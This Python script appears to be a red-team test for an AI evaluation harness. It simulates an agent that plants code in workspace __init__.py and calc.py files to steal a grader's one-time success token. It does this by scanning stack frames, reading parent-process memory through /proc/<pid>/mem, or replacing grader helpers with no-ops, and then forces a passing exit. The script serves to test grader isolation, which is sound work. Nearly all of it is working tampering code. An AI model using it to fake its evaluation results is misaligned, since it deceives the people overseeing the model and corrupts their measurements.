"""An agent whose workspace code steals the success token from the grader that imports it.

usage: thief.py MODE   (cwd = the trial workspace; MODE: frames | memscan | helpers)

It plants the attack in every module a grader imports (each package's ``__init__.py``, and
``calc.py`` of the tests' tiny corpus). When a grader imports it, the attack looks for the
one-time token (32 hex digits) — in the stack frames of its importer, in its own memory and
its parent's (``/proc/<pid>/mem``), or by replacing the grader's helpers with no-ops — writes
every candidate to the result file and ends the process with exit 0 (docs/security.md,
"The verdict channel"). Against a grader that decides in a process that never imports
workspace code, none of it can pass.
"""

import os
import sys
from pathlib import Path

ws = Path(os.environ.get("TRIALHOUSE_WORKSPACE", os.getcwd()))

COMMON = r'''
def _th_result_files():
    import os
    named = os.environ.get("TRIALHOUSE_RESULT_FILE")
    if named:
        return [named]
    found = []  # not told: every writable mount that looks like a result directory
    try:
        for line in open("/proc/self/mountinfo"):
            point = line.split()[4]
            if point.endswith("/result"):
                found.append(point + "/result")
    except OSError:
        pass
    return found


def _th_finish(candidates):
    import os
    text = " ".join(sorted(candidates)[:500])
    for path in _th_result_files():
        try:
            with open(path, "w") as fh:
                fh.write(text)
        except OSError:
            pass
    os._exit(0)
'''

FRAMES = COMMON + r'''
def _th_frames():
    import re, sys
    hexes = re.compile(r"[0-9a-f]{32}")
    seen = set()
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for value in list(scope.values()):
                if isinstance(value, str) and hexes.fullmatch(value):
                    seen.add(value)
        frame = frame.f_back
    _th_finish(seen)
_th_frames()
'''

MEMSCAN = COMMON + r'''
def _th_memscan():
    import os, re
    hexes = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
    seen = set()
    for pid in ("self", str(os.getppid())):
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError as exc:
            print("memscan refused:", pid, exc)
            continue
        budget = 512 * 2**20
        for line in maps:
            span, perms = line.split()[:2]
            if "r" not in perms or "[vvar" in line or "[vsyscall" in line:
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            if end - start > budget:
                continue
            budget -= end - start
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            seen.update(m.decode() for m in hexes.findall(data))
    _th_finish(seen)
_th_memscan()
'''

HELPERS = COMMON + r'''
def _th_helpers():
    import sys
    def noop(*args, **kwargs):
        return None
    for name, mod in list(sys.modules.items()):
        where = getattr(mod, "__file__", None) or ""
        if name not in ("_harness", "__main__") and "/graders/" not in where:
            continue
        for attr, value in list(vars(mod).items()):
            if callable(value) and not attr.startswith("__") and not isinstance(value, type) and attr != "run":
                try:
                    setattr(mod, attr, noop)
                except (AttributeError, TypeError):
                    pass
_th_helpers()
'''

ATTACKS = {"frames": FRAMES, "memscan": MEMSCAN, "helpers": HELPERS}


def plant(mode: str) -> None:
    targets = [p for p in ws.rglob("__init__.py") if ".git" not in p.parts]
    if (ws / "calc.py").exists():
        targets.append(ws / "calc.py")
    for path in targets:
        path.write_text(path.read_text() + "\n" + ATTACKS[mode])
        print("planted", mode, "in", path.relative_to(ws), flush=True)


if __name__ == "__main__":
    plant(sys.argv[1])
